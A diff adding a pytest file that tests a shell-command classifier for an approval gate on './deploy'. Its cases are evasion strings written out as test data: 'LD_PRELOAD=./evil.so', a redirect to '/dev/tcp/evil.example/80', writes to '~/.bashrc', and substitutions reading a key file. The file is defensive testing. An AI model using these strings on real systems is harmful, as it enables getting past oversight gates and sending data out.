@@ -1,0 +1,183 @@
+"""What a shell command does beside running the programs it names (G-74)."""
+
+from __future__ import annotations
+
+import pytest
+
+from interlock.engine.gate.classify import exact_only, maps_digest, unread
+from interlock.engine.gate.classify import programs as programs_of
+from interlock.engine.net.net import ToolCall
+from interlock.rules import compile_rules
+from interlock.rules.shell.side_effects import UNREAD, not_plain
+
+RULES = "map bash.command ./deploy as deploy\nrequire human-approval before deploy"
+VARIABLE = "the command sets a variable"
+FILE = "the command redirects to or from a file"
+INPUT = "the command redirects its input"
+SUBSTITUTION = "the command holds a substitution"
+GROUPED = "the command has a group, a loop or a condition"
+OTHER = "the command runs a program through another one"
+
+
+class TestPlain:
+    @pytest.mark.parametrize(
+        "text",
+        [
+            "./deploy staging",
+            "./deploy 'a b' \"c\" $'d'",
+            "./deploy a && ./deploy b || ./deploy c; ./deploy d",
+            "./deploy a | ./deploy b",
+            "./deploy 2>&1 >&2 2>&-",
+            "./deploy >/dev/null 2> /dev/null < /dev/null",
+            "./deploy &>/dev/null",
+            "./deploy > '/dev/null'",
+            "./deploy # with a comment > x",
+            "",
+        ],
+    )
+    def test_nothing_beside(self, text: str) -> None:
+        """Programs, literal words, lists, pipes, own streams and `/dev/null` are all there is."""
+        assert not_plain(text) is None
+
+    @pytest.mark.parametrize(
+        ("text", "why"),
+        [
+            ("LD_PRELOAD=./evil.so ./deploy", VARIABLE),
+            ("PATH=. ./deploy", VARIABLE),
+            ("BASH_ENV=./x ./deploy", VARIABLE),
+            ("A=1; ./deploy", VARIABLE),
+            ("export A=1; ./deploy", VARIABLE),
+            ("unset A; ./deploy", VARIABLE),
+            ("./deploy > ~/.bashrc", FILE),
+            ("./deploy > /dev/tcp/evil.example/80", FILE),
+            ("./deploy >/dev/null/../x", FILE),
+            ("./deploy >& log", FILE),
+            ("./deploy &>> log", FILE),
+            ("./deploy 2>&1file", FILE),
+            ("./deploy >&2 > log", FILE),
+            ("./deploy < key", FILE),
+            ("{ ./deploy; } > log", GROUPED),
+            ("( ./deploy ) 2> log", GROUPED),
+            ("( ./deploy a )", GROUPED),
+            ("if ./deploy; then ./deploy; fi", GROUPED),
+            ("for i in a b; do ./deploy; done", GROUPED),
+            ("for ((;;)); do ./deploy; done", GROUPED),
+            ("until ./deploy; do ./deploy; done", GROUPED),
+            ("case x in x) ./deploy;; esac", GROUPED),
+            ("((A=1)); ./deploy", GROUPED),
+            ("[[ -e x ]] && ./deploy", GROUPED),
+            ("! ./deploy", "the command turns its success around"),
+            ("./deploy {fd}>&1", FILE),
+            ("./deploy {fd}> log", FILE),
+            ("./deploy <<< x", INPUT),
+            ("./deploy <<E\nx\nE\n", INPUT),
+            ("./deploy <<'E'\nx\nE\n", INPUT),
+            ('./deploy "$(<key)"', SUBSTITUTION),
+            ("./deploy `cat key`", SUBSTITUTION),
+            ("./deploy <(cat key)", SUBSTITUTION),
+            ("./deploy $TARGET", SUBSTITUTION),
+            ('./deploy "${TARGET:-x}"', SUBSTITUTION),
+            ("./deploy $((1))", SUBSTITUTION),
+            ("./deploy &", "the command goes on in the background"),
+            ("./deploy & ./deploy", "the command goes on in the background"),
+            ("deploy() { ./deploy; }", "the command defines a function"),
+            ("env A=1 ./deploy", OTHER),
+            ("sudo ./deploy", OTHER),
+            ("bash -c './deploy'", OTHER),
+            ("./deploy 'unended", UNREAD),
+        ],
+    )
+    def test_more(self, text: str, why: str) -> None:
+        """Whatever else a command does is a reason, and said."""
+        assert not_plain(text) == why
+
+
+class TestCalls:
+    def why(self, **value: object) -> str | None:
+        net = compile_rules(RULES).registry["approve-before-deploy"]
+        return exact_only(net, ToolCall("c", "bash", value))
+
+    def test_the_field_of_the_command(self) -> None:
+        """A call's mapped shell fields are looked at, and no others."""
+        assert self.why(command="./deploy") is None
+        assert self.why(command="./deploy > x") == FILE
+        assert self.why(command="./deploy", note="a > b") is None
+
+    def test_an_object(self) -> None:
+        """What is no text cannot be told to be plain."""
+        assert self.why(command={"run": "./deploy"}) is not None
+
+    def test_unread(self) -> None:
+        """Fields without maps are to be the same, and mapped ones that are no text."""
+        net = compile_rules(RULES).registry["approve-before-deploy"]
+        value = {"command": "./deploy", "env": {"A": "1"}, "cwd": "/tmp"}
+        assert unread(net, ToolCall("c", "bash", value)) == {"env": {"A": "1"}, "cwd": "/tmp"}
+        assert unread(net, ToolCall("c", "bash", {"command": {"x": 1}})) == {"command": {"x": 1}}
+        assert unread(net, ToolCall("c", "deploy", {"env": "prod"})) == {"env": "prod"}
+
+    def test_words_of_a_program(self) -> None:
+        """A list of texts is a program and its words, which no shell reads."""
+        assert self.why(command=["./deploy", "a > b", "$(x)", "&"]) is None
+        assert self.why(command=["env", "A=1", "./deploy"]) == OTHER
+        assert self.why(command=["bash", "-c", "./deploy > x"]) in (OTHER, FILE)
+
+    def test_fields_in_fields(self) -> None:
+        """Of an object only what a map reads may differ."""
+        net, *_ = compile_rules("map call.opts.url x as y\nblock y").registry.values()
+        value = {"opts": {"url": "a", "method": "b"}, "url": "c"}
+        assert unread(net, ToolCall("c", "call", value)) == {"opts": {"method": "b"}, "url": "c"}
+        listed = {"opts": [{"url": "a", "n": 1}, {"url": {}}]}
+        assert unread(net, ToolCall("c", "call", listed)) == {"opts": [{"n": 1}, {"url": {}}]}
+
+    @pytest.mark.parametrize(
+        ("pattern", "command", "programs"),
+        [
+            ("deploy", "./deploy a; ./deploy b", ("./",)),
+            ("deploy", "deploy x", ("",)),
+            ("deploy", "'/abs/deploy' x", ("/abs/",)),
+            ("deploy", "./my-deploy", ("./my-deploy",)),
+            ("deploy", "./deploy.sh", ("./deploy.sh",)),
+            ("deploy", "rm deploy", ("rm",)),
+            ("deploy", "./deploy a | tee deploy", ("./", "tee")),
+            ("./deploy", "sh ./deploy", ("./deploy", "sh")),
+            ("python", "python ./a.py x", ("", "./a.py")),
+            ("python", "python -V", ("",)),
+            ("./deploy", "/tmp/deploy", ("/tmp/",)),
+            (r"/^git\s+push/", "git -C x push", ("",)),
+            (r"/^git\s+push/", "/opt/git push", ("/opt/git",)),
+            ("push", "git push", ("git",)),
+            ("/^(ls|cat)/", "cat x; ls y", ("",)),
+            ("/^(ls|cat)/", "lsof", ("lsof",)),
+            ("/.*/", "ls x", ("ls",)),
+            ("/deploy$/", "rm deploy", ("rm",)),
+        ],
+    )
+    def test_programs(self, pattern: str, command: str, programs: tuple[str, ...]) -> None:
+        """Of programs that a map is about only the folder is open, of others all."""
+        rules = f"map bash.command {pattern} as x\nrequire human-approval before x"
+        net = compile_rules(rules).registry["approve-before-x"]
+        assert programs_of(net, ToolCall("c", "bash", {"command": command})) == programs
+        assert programs_of(net, ToolCall("c", "deploy", {"command": command})) == ()
+
+    @pytest.mark.parametrize(
+        ("changed", "same"),
+        [
+            (RULES, True),
+            ("# a comment\n" + RULES, True),
+            (RULES.replace("./deploy", "./deplo"), False),
+            (RULES.replace("map bash", "map shell bash"), False),
+            ("map bash.command rm as delete\n" + RULES, False),
+            (RULES + "\nmap bash.cmd ./deploy as deploy", False),
+        ],
+    )
+    def test_maps_digest(self, changed: str, same: bool) -> None:
+        """The digest is another one as soon as any map is, and no other than that."""
+        digests = [maps_digest(compile_rules(r).registry.values()) for r in (RULES, changed)]
+        assert (digests[0] == digests[1]) is same
+
+    def test_their_order_counts(self) -> None:
+        """The first map that matches wins, so another order is another set."""
+        two = ["map bash.command a as x", "map bash.command b as y", "block x"]
+        orders = (two, [two[1], two[0], two[2]])
+        digests = {maps_digest(compile_rules("\n".join(o)).registry.values()) for o in orders}
+        assert len(digests) == 2
